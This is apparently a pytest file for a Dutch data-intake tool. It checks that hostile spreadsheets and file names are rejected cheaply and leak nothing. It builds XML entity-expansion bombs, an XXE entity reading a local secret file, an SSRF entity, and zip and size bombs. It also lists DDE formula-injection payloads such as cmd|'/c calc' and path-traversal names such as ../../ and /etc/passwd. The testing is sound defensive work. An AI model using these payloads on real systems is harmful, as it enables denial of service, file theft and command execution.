"""Files that are made to harm: whatever one of them is, it costs little memory and time, and harms nobody else."""

from __future__ import annotations

import io
import os
import time
import zipfile
from pathlib import Path

import psutil
import pytest
import stepping
from conftest import Delivery, rows
from oracle.small_landing import JAN, SIGNAL_COLUMNS, A, signal

from vroegsignaal.console import remarks_on_files
from vroegsignaal.errors import PlatformError
from vroegsignaal.months import Month
from vroegsignaal.outbox import report
from vroegsignaal.outbox.files import as_text_cell

MEMORY, SECONDS = 600 << 20, 150
"""More than any may take: the reader of workbooks has 460 MB and 120 seconds, and the receiver needs some itself."""
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>'
)
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'


def workbook(sheet: str, texts: str = "", *, prolog: str = "", sheets: int = 1) -> bytes:
    """A workbook of the given XML; `prolog` stands before the root of the sheet and of the shared texts."""
    packed = io.BytesIO()
    names = range(1, sheets + 1)
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", HEAD + TYPES)
        archive.writestr(
            "_rels/.rels",
            f'{HEAD}<Relationships xmlns="{_RELATIONS}"><Relationship Id="r" Type="{_OFFICE}/officeDocument"'
            ' Target="xl/workbook.xml"/></Relationships>',
        )
        listed = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r{n}"/>' for n in names)
        archive.writestr(
            "xl/workbook.xml",
            f'{HEAD}<workbook xmlns="{_MAIN}" xmlns:r="{_OFFICE}"><sheets>{listed}</sheets></workbook>',
        )
        related = "".join(
            f'<Relationship Id="r{n}" Type="{_OFFICE}/worksheet" Target="worksheets/sheet{n}.xml"/>' for n in names
        )
        related += f'<Relationship Id="t" Type="{_OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
        archive.writestr(
            "xl/_rels/workbook.xml.rels", f'{HEAD}<Relationships xmlns="{_RELATIONS}">{related}</Relationships>'
        )
        archive.writestr("xl/sharedStrings.xml", f'{HEAD}{prolog}<sst xmlns="{_MAIN}">{texts}</sst>')
        for n in names:
            data = sheet if n == sheets else ""
            archive.writestr(
                f"xl/worksheets/sheet{n}.xml",
                f'{HEAD}{prolog}<worksheet xmlns="{_MAIN}"><sheetData>{data}</sheetData></worksheet>',
            )
    return packed.getvalue()


def row(number: int, *cells: str) -> str:
    return f'<row r="{number}">{"".join(cells)}</row>'


def inline(text: str) -> str:
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


def shared(index: int) -> str:
    return f'<c t="s"><v>{index}</v></c>'


HEADER = row(1, *map(inline, SIGNAL_COLUMNS.split(";")))
SECRET = "what only this machine knows"  # noqa: S105
LAUGHS = "<!DOCTYPE x [" + '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
) + "]>"  # fmt: skip


def hostile(kind: str, secret: Path) -> bytes:
    """A workbook that asks for more than a delivery needs, or for what is not in it."""
    outside = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
    makers = {
        # Of a few kilobytes each.
        "a row in the last line": lambda: workbook(HEADER + row(1_048_576, inline("x"))),
        "a cell in the last column": lambda: workbook(HEADER + '<row r="2"><c r="XFD1048576"><v>1</v></c></row>'),
        "laughs in a cell": lambda: workbook(HEADER + row(2, inline("&a9;")), prolog=LAUGHS),
        "laughs in a shared text": lambda: workbook(HEADER + row(2, shared(0)), "<si><t>&a9;</t></si>", prolog=LAUGHS),
        "a file of this machine": lambda: workbook(HEADER + row(2, inline("&e;")), prolog=outside),
        "an address": lambda: workbook(
            HEADER + row(2, inline("&e;")), prolog='<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:1/">]>'
        ),
        "one long text shared by many": lambda: workbook(
            HEADER + "".join(row(n, *[shared(0)] * 20) for n in range(2, 20_000)), f"<si><t>{'x' * 100_000}</t></si>"
        ),
        "shared texts without end": lambda: workbook(HEADER + row(2, shared(0)), "<si><t>x</t></si>" * 8_000_000),
        "a count of texts that is a lie": lambda: workbook(HEADER + row(2, shared(4_000_000_000))),
        "many sheets": lambda: workbook(HEADER, sheets=5_000),
        "many columns": lambda: workbook(row(1, *[inline("a")] * 16_000) + row(2, *[inline("b")] * 16_000)),
        "many rows": lambda: workbook(HEADER + "".join(row(n, inline("x")) for n in range(2, 1_000_000))),
        "a nest of tags": lambda: workbook(HEADER + row(2, inline("<b>" * 200_000))),
        "zeros": lambda: workbook(HEADER + row(2, inline("0" * (300 << 20)))),
    }
    return makers[kind]()


KINDS = (
    "a row in the last line", "a cell in the last column", "laughs in a cell", "laughs in a shared text",
    "a file of this machine", "an address", "one long text shared by many", "shared texts without end",
    "a count of texts that is a lie", "many sheets", "many columns", "many rows", "a nest of tags", "zeros",
)  # fmt: skip


@pytest.mark.parametrize("kind", KINDS)
def test_a_hostile_workbook_costs_little_and_spoils_no_other_delivery(
    delivery: Delivery, tmp_path: Path, kind: str
) -> None:
    small, here = delivery
    (tmp_path / "secret").write_text(SECRET)
    (small.config / "dialects.csv").write_text(
        'creditor,encoding,delimiter,decimal_separator,thousands_separator,format\nrood,utf-8,;,",",,xlsx\n'
    )
    small.put(JAN, "signals/rood.xlsx", hostile(kind, tmp_path / "secret"))
    small.signals(JAN, "wit", signal(JAN, 1))
    with Watched() as watched:
        stepping.receive(JAN)
    assert watched.seconds < SECONDS
    assert watched.most < MEMORY, f"{watched.most >> 20} MB"
    told = rows(here, "select creditor, status, coalesce(unreadable, '') from raw.drop_ledger order by 1")
    assert [status for creditor, status, _ in told if creditor == "wit"] == ["accepted"]
    assert len([status for creditor, status, _ in told if creditor == "rood"]) == 1
    if kind == "many rows":
        ((why, read, rejected),) = rows(
            here, "select unreadable, rows_read, rows_rejected from raw.drop_ledger where creditor = 'rood'"
        )
        assert why.startswith("meer dan 250000 rijen")
        assert read == rejected == 999_998
    everything = " ".join(map(str, rows(here, "select to_jsonb(row) from raw.signals as row")))
    assert SECRET not in everything + str(told)


class Watched:
    """The most memory that the children of this process took together, and how long it was, while the block ran."""

    def __enter__(self) -> Watched:
        import threading

        self.most, self._started, self._over = 0, time.monotonic(), threading.Event()
        self._watcher = threading.Thread(target=self._watch)
        self._watcher.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._over.set()
        self._watcher.join()
        self.seconds = time.monotonic() - self._started

    def _watch(self) -> None:
        me = psutil.Process(os.getpid())
        own = me.memory_info().rss
        while not self._over.wait(0.05):
            taken = me.memory_info().rss - own
            for child in me.children(recursive=True):
                try:
                    taken += child.memory_info().rss if child.name() != "postgres" else 0
                except psutil.Error:
                    continue
            self.most = max(self.most, taken)


FORMULAS = (
    "=cmd|'/c calc'!A1", "+cmd|'/c calc'!A1", "-2+3+cmd|'/c calc'!A1", "@SUM(1+1)*cmd|'/c calc'!A1", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "−1+1",  # noqa: RUF001
    '=HYPERLINK("http://example.org/?"&A1)', "=DDE(1;2;3)", "\x00=1+1", "\t", "-", "--5", "+31;x",
)  # fmt: skip


@pytest.mark.parametrize("value", FORMULAS)
def test_what_a_spreadsheet_could_run_is_text(value: str) -> None:
    assert str(as_text_cell(value)).startswith("'")


@pytest.mark.parametrize(
    "value", ["-5,00", "+31612345678", "Van den Berg-De Wit", "a=b", "12-a", "", "'t Hart", "a@b.nl"]
)
def test_what_it_could_not_stays_as_it_is(value: str) -> None:
    assert as_text_cell(value) == value


NAMES = (
    "rood\n2019-01 approved.csv", "rood\x1b[2K\x1b[1A.csv", "../../rood.csv", "rood.csv\u202evsc", "\u0430\u0431.csv",
    "rood .csv", "ROOD;drop table.csv", "rood'.csv", "-rf.csv", "r\u0585od.csv",
)  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_a_file_by_an_odd_name_is_told_in_one_line_and_counts_for_nobody(delivery: Delivery, name: str) -> None:
    small, here = delivery
    folder = small.landing / A / JAN / "signals"
    folder.mkdir(parents=True)
    (folder / name).write_text(f"{SIGNAL_COLUMNS}\n{signal(JAN, 1)}\n")
    stepping.receive(JAN)
    ledger = rows(here, "select file, status from raw.drop_ledger")
    assert all(status == "rejected" for _, status in ledger)
    remarks = [remark for remark in remarks_on_files(here, [Month.parse(JAN)]) if remark.startswith("Not ")]
    assert len(ledger) + len(remarks) == 1
    assert all(told.isprintable() for told in [*remarks, *(file for file, _ in ledger)])


def test_a_folder_by_an_odd_name_is_not_looked_in(delivery: Delivery) -> None:
    small, here = delivery
    (small.landing / "0637\n0638" / JAN / "signals").mkdir(parents=True)
    (small.landing / "../outside" / JAN / "signals").mkdir(parents=True)
    (small.landing / A / "2019-01\x1b[2K" / "signals").mkdir(parents=True)
    (small.landing / "9102").symlink_to(small.landing.parent / "outside")
    for folder in (small.landing / "0637\n0638", small.landing.parent / "outside", small.landing / A):
        for month in folder.iterdir():
            (month / "signals" / "rood.csv").write_text(f"{SIGNAL_COLUMNS}\n{signal(JAN, 1)}\n")
    stepping.receive(JAN)
    assert rows(here, "select file from raw.drop_ledger") == []
    assert all(remark.isprintable() for remark in remarks_on_files(here, [Month.parse(JAN)]))


@pytest.mark.parametrize("code", ["../9101", "/etc", "9101/../..", "91 01", "9101\n", "９１０１", "9101;drop", ""])  # noqa: RUF001
def test_a_code_that_is_no_code_makes_no_path(delivery: Delivery, code: str) -> None:
    small, _ = delivery
    (small.config / "municipalities.csv").write_text(f'municipality_code,name,inhabitants\n"{code}",Aa,1000\n')
    with pytest.raises(PlatformError, match=r"municipalities\.csv, line"):
        stepping.receive(JAN)


def test_a_period_by_an_odd_name_makes_no_path() -> None:
    for period in ("../../x", "/etc/passwd", "2018/..", "a\0b", ".", "..", "x" * 300, "2018\n"):
        name = report._as_file_name(period)
        assert name == Path(name).name
        assert name.isprintable()
        assert len(name) < 200
